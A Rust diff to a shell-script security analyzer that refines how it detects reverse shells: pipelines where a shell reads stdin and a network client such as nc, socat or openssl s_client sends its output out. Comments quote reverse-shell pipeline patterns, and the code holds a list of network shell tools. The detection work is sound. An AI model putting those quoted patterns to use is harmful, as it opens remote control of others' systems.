@@ -60,46 +60,107 @@ fn reverse_shells(analysis: &Analysis, _context: &Context, report: &mut Report) 
         if !(client.in_pipeline && matches!(client.stdin, Input::Piped(_)) && is_network_client(client)) {
             continue;
         }
-        // The stage before it: the nearest earlier command at the same depth (commands that
-        // one stage runs come after it, one level down).
-        let stage = analysis.commands[..id].iter().rev().find(|c| c.parent == client.parent);
-        if let Some(shell) = stage.filter(|shell| shell.in_pipeline && reads_code_on_stdin(shell)) {
-            report.command = Some(id);
-            report.flag(
-                &REMOTE_CODE_EXECUTION,
-                client.span,
-                format!(
-                    "`{}` reads its commands from standard input and `{}` sends its output over the network: \
-                     a reverse shell, run by whoever is at the other end",
-                    shell.name, client.name
-                ),
-            );
+        // The stages before it: the nearest earlier commands at the same depth (what one stage
+        // runs comes after it, one level down), through stages that pass their input on.
+        let stages = analysis.commands[..id]
+            .iter()
+            .enumerate()
+            .rev()
+            .filter(|(_, c)| c.parent == client.parent && c.in_pipeline);
+        for (stage_id, stage) in stages {
+            // The stage itself, or what a wrapper stage runs (`env sh -i`, `nohup bash -i`).
+            let shell = std::iter::once(stage)
+                .chain(analysis.commands.iter().filter(|c| c.parent == Some(stage_id)))
+                .find(|shell| reads_code_on_stdin(shell, client));
+            if let Some(shell) = shell {
+                report.command = Some(id);
+                report.flag(
+                    &REMOTE_CODE_EXECUTION,
+                    client.span,
+                    format!(
+                        "`{}` reads its commands from standard input and `{}` sends its output over the network: \
+                         a reverse shell, run by whoever is at the other end",
+                        shell.name, client.name
+                    ),
+                );
+                break;
+            }
+            if !matches!(stage.name.as_str(), "tee" | "cat" | "stdbuf" | "pv" | "dd" | "buffer") {
+                break;
+            }
         }
     }
     report.command = None;
 }
 
-/// Whether the command is a shell or interpreter reading its code from standard input: the
-/// terminal, or a file or fifo (`sh -i < /tmp/f`, `cat /tmp/f | sh -i`).
-fn reads_code_on_stdin(command: &Command) -> bool {
-    let options_only = command.args().iter().all(|word| {
-        word.value()
-            .is_some_and(|text| text.starts_with('-') && !text.contains('c'))
-    });
+/// Whether the command is a shell or interpreter reading its code from standard input while
+/// `client` sends its output away: from the terminal; interactively (`-i`) from a file, fifo
+/// or pipe; or from the very file the client's output is written back to (`sh < /tmp/f | nc
+/// host port > /tmp/f`).
+fn reads_code_on_stdin(command: &Command, client: &Command) -> bool {
     let program = command.name.rsplit('/').next().unwrap_or(&command.name);
-    command.terminal_code.is_some()
-        || (matches!(command.stdin, Input::File(_) | Input::Piped(Output::Unknown))
-            && options_only
-            && (crate::language::is_shell(program) || crate::language::Language::of_interpreter(program).is_some()))
+    let program = if program == "busybox" {
+        command.args().first().and_then(|word| word.value()).unwrap_or("")
+    } else {
+        program
+    };
+    if !(crate::language::is_shell(program) || crate::language::Language::of_interpreter(program).is_some()) {
+        return false;
+    }
+    if command.terminal_code.is_some() {
+        return true;
+    }
+    let args = if command.name.ends_with("busybox") {
+        command.args().get(1..).unwrap_or_default()
+    } else {
+        command.args()
+    };
+    // Options only: `-c` or an operand would give it code other than its input.
+    let short = |word: &crate::word::Word| {
+        word.value()
+            .filter(|text| !text.starts_with("--"))
+            .map(|text| text.to_owned())
+    };
+    let options_only = args.iter().all(|word| {
+        word.value().is_some_and(|text| text.starts_with('-')) && !short(word).is_some_and(|text| text.contains('c'))
+    });
+    let interactive = args
+        .iter()
+        .any(|word| short(word).is_some_and(|text| text.contains('i')));
+    let fed_back = match &command.stdin {
+        Input::File(path) => client
+            .redirects
+            .iter()
+            .any(|redirect| redirect.target.text() == path.text()),
+        _ => false,
+    };
+    options_only && matches!(command.stdin, Input::File(_) | Input::Piped(Output::Unknown)) && (interactive || fed_back)
 }
 
 /// Clients that stream their standard input to a network peer (openssl with `s_client`).
 pub const NETWORK_CLIENTS: &[&str] = &[
-    "nc", "ncat", "netcat", "telnet", "socat", "cryptcat", "sbd", "pwncat", "openssl",
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "netcat.traditional",
+    "netcat.openbsd",
+    "telnet",
+    "socat",
+    "cryptcat",
+    "sbd",
+    "pwncat",
+    "openssl",
 ];
 
 /// Whether the command streams its standard input to a network peer.
 fn is_network_client(command: &Command) -> bool {
     let first = command.args().first().and_then(|word| word.value()).unwrap_or("");
-    NETWORK_CLIENTS.contains(&command.name.as_str()) && (command.name != "openssl" || first == "s_client")
+    let name = if command.name == "busybox" {
+        first
+    } else {
+        command.name.as_str()
+    };
+    NETWORK_CLIENTS.contains(&name) && (name != "openssl" || first == "s_client")
 }
